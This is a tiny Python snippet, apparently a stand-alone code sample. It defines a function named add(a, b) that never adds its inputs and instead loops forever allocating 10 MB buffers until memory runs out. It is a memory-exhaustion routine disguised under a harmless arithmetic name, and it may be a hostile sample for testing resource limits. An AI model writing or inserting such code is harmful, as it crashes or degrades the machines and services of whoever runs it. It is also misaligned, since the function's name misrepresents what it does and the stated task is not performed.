def add(a, b):
    x = []
    while True:
        x.append(bytearray(10**7))
